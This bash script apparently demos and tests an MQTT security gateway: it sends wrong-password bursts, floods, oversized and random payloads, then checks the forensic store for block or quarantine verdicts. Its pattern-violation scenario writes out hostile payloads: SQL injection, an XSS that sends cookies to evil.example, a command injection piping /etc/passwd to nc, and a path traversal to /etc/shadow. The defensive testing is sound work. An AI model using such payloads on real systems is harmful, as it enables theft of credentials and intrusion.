#!/usr/bin/env bash
# Discrete security scenarios against MQTT Sentinel; each checks that its verdict appeared.
set -euo pipefail
# shellcheck source=demo/scripts/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

SCENARIOS=(auth-failure rate-anomaly pattern-violation size-anomaly entropy)

usage() {
  cat <<EOF
Usage: $(basename "$0") [SCENARIO] [--timeout SECONDS]

Runs discrete security scenarios against the platform, as a device would, then waits (bounded) for the
expected verdict in the forensic store (sentinel forensics sql ...). Exits non-zero if a verdict did not
appear.

Scenarios (default: all):
  all                run every scenario below, in this order
  auth-failure       7 CONNECTs with a wrong password for one client id
                     -> a CONNECT verdict with ANOM-AUTH-BURST-CLIENT (5 failures per client id in 60 s)
  rate-anomaly       one device publishes 150 messages at once (over 100 msg/s)
                     -> ANOM-RATE-ABSOLUTE
  pattern-violation  SQL injection, XSS, command injection and path traversal payloads
                     -> block verdicts with findings of class sqli, xss, command-injection and path-traversal
  size-anomaly       a 12 KB payload (over the 10 KB cap)
                     -> quarantine with ANOM-SIZE-CAP
  entropy            4 KB of random bytes (over 7.5 bits/byte)
                     -> ANOM-ENTROPY

Options:
  --timeout SECONDS  how long to wait for each verdict (default \$SENTINEL_DEMO_VERDICT_TIMEOUT or 45)
  -h, --help         this text

The demo devices ($(demo_id auth), $(demo_id rate), $(demo_id pattern), $(demo_id size),
$(demo_id entropy)) are registered with 'sentinel devices add' when missing.

Environment (defaults: the local platform of 'npm start'):
  SENTINEL_DEMO_HOST, SENTINEL_DEMO_PORT     edge address (127.0.0.1, 11883; 18883 with TLS)
  SENTINEL_DEMO_TLS=1, SENTINEL_DEMO_CAFILE  MQTTS and the CA of the edge certificate
  SENTINEL_DEMO_PASSWORD                     password of the demo devices
  SENTINEL_DEMO_USERNAME                     user name of the demo devices (default: the client id)
  SENTINEL_DEMO_DEVICE_PREFIX                prefix of the demo client ids (demo)
  SENTINEL_DEMO_REGISTER=0                   the devices are already registered (remote platform)
  SENTINEL_FORENSICS_URL                     forensic store queried for verdicts (http://127.0.0.1:18123)
  SENTINEL_DEMO_INGEST_METRICS               edge metrics, used to check the platform is up
Prerequisites: mosquitto-clients, curl, Node.js (the sentinel CLI), a running platform (npm start).
EOF
}

scenario="all"
while [ $# -gt 0 ]; do
  case "$1" in
    -h | --help)
      usage
      exit 0
      ;;
    --timeout)
      [ $# -ge 2 ] || die "--timeout needs a number of seconds"
      VERDICT_TIMEOUT="$2"
      shift 2
      ;;
    -*) die "unknown option $1 (see --help)" ;;
    *)
      scenario="$1"
      shift
      ;;
  esac
done
case "$VERDICT_TIMEOUT" in '' | *[!0-9]*) die "--timeout must be a whole number of seconds" ;; esac
if [ "$scenario" != all ] && ! printf '%s\n' "${SCENARIOS[@]}" | grep -qxF "$scenario"; then
  die "unknown scenario '$scenario'; one of: all ${SCENARIOS[*]}"
fi

require_tools cli
require_platform
require_forensics

# verdict_sql <client-id> <since> <condition>: SQL counting that client's verdicts matching a condition
verdict_sql() {
  printf "SELECT count() AS n FROM verdicts WHERE client_id = '%s' AND decided_at >= toDateTime64('%s', 3, 'UTC') AND (%s)" \
    "$1" "$2" "$3"
}

# show_verdicts <client-id> <since>: the verdicts with findings, as the forensic store has them
show_verdicts() {
  sentinel_cli forensics sql "SELECT decided_at, packet_type, decision, arrayStringConcat(findings.rule_id, ',') AS rules, substring(arrayStringConcat(findings.evidence, ' | '), 1, 70) AS evidence FROM verdicts WHERE client_id = '$1' AND decided_at >= toDateTime64('$2', 3, 'UTC') AND length(findings.rule_id) > 0 ORDER BY decided_at DESC LIMIT 5" 2>&1 |
    sed 's/^/    /'
}

scenario_auth_failure() {
  local id since answer i
  id="$(demo_id auth)"
  step "auth-failure: 7 CONNECTs as $id with a wrong password"
  ensure_devices "$id"
  since="$(utc_since 2)"
  for i in 1 2 3 4 5 6 7; do
    answer="$(pub_as "$id" "wrong-password-$i" -t "devices/$id/status" -m '{"online":true}' 2>&1)" && answer="accepted?!"
    [ "$i" = 1 ] && say "  edge answered: ${answer:-no answer}"
  done
  say "  (7 refused CONNECTs sent)"
  wait_for_count "auth-failure: CONNECT verdict with ANOM-AUTH-BURST-CLIENT for $id" \
    "$(verdict_sql "$id" "$since" "packet_type = 'CONNECT' AND has(findings.rule_id, 'ANOM-AUTH-BURST-CLIENT')")" || return 1
  show_verdicts "$id" "$since"
}

scenario_rate_anomaly() {
  local id since
  id="$(demo_id rate)"
  step "rate-anomaly: $id publishes 150 messages at once (the rule: over 100 msg/s per device)"
  ensure_devices "$id"
  since="$(utc_since 2)"
  for i in $(seq 1 150); do printf '{"t":21.5,"seq":%d}\n' "$i"; done |
    pub "$id" -t "devices/$id/telemetry" -q 0 -l
  say "  150 PUBLISH sent"
  wait_for_count "rate-anomaly: ANOM-RATE-ABSOLUTE for $id" \
    "$(verdict_sql "$id" "$since" "has(findings.rule_id, 'ANOM-RATE-ABSOLUTE')")" || return 1
  show_verdicts "$id" "$since"
}

scenario_pattern_violation() {
  local id since rc=0 payload class
  id="$(demo_id pattern)"
  step "pattern-violation: $id publishes injection payloads"
  ensure_devices "$id"
  since="$(utc_since 2)"
  local -a payloads=(
    "sqli|{\"name\":\"x' UNION SELECT password FROM users--\"}"
    "xss|{\"label\":\"<script>document.location='http://evil.example/'+document.cookie</script>\"}"
    "command-injection|{\"host\":\"8.8.8.8; cat /etc/passwd | nc evil.example 4444\"}"
    "path-traversal|{\"file\":\"../../../../etc/shadow\"}"
  )
  for entry in "${payloads[@]}"; do
    class="${entry%%|*}"
    payload="${entry#*|}"
    run_note "mosquitto_pub -i $id -t devices/$id/telemetry -q 1 -m '$payload'"
    pub "$id" -t "devices/$id/telemetry" -q 1 -m "$payload"
  done
  for entry in "${payloads[@]}"; do
    class="${entry%%|*}"
    wait_for_count "pattern-violation: blocked, finding of class $class" \
      "$(verdict_sql "$id" "$since" "decision = 'block' AND has(findings.class, '$class')")" || rc=1
  done
  show_verdicts "$id" "$since"
  return "$rc"
}

scenario_size_anomaly() {
  local id since file
  id="$(demo_id size)"
  step "size-anomaly: $id publishes a 12 KB payload (cap: 10 KB)"
  ensure_devices "$id"
  since="$(utc_since 2)"
  file="$(mktemp)"
  printf '{"blob":"%s"}' "$(head -c 12288 /dev/zero | tr '\0' a)" >"$file"
  pub "$id" -t "devices/$id/upload" -q 1 -f "$file"
  rm -f "$file"
  say "  $(printf '%s' "12 KB PUBLISH sent, QoS 1 acknowledged by the edge")"
  wait_for_count "size-anomaly: quarantine with ANOM-SIZE-CAP for $id" \
    "$(verdict_sql "$id" "$since" "decision = 'quarantine' AND has(findings.rule_id, 'ANOM-SIZE-CAP')")" || return 1
  show_verdicts "$id" "$since"
}

scenario_entropy() {
  local id since file
  id="$(demo_id entropy)"
  step "entropy: $id publishes 4 KB of random bytes (quarantined above 7.5 bits/byte on a JSON topic)"
  ensure_devices "$id"
  since="$(utc_since 2)"
  file="$(mktemp)"
  head -c 4096 /dev/urandom >"$file"
  pub "$id" -t "devices/$id/upload" -q 1 -f "$file"
  rm -f "$file"
  say "  4 KB random PUBLISH sent"
  wait_for_count "entropy: ANOM-ENTROPY for $id" \
    "$(verdict_sql "$id" "$since" "has(findings.rule_id, 'ANOM-ENTROPY')")" || return 1
  show_verdicts "$id" "$since"
}

if [ "$scenario" = all ]; then selected=("${SCENARIOS[@]}"); else selected=("$scenario"); fi
failed=()
for s in "${selected[@]}"; do
  "scenario_${s//-/_}" || failed+=("$s")
done

printf '\n'
if [ ${#failed[@]} -gt 0 ]; then
  fail "scenarios without their verdict: ${failed[*]}"
  exit 1
fi
ok "every scenario produced its verdict: ${selected[*]}"
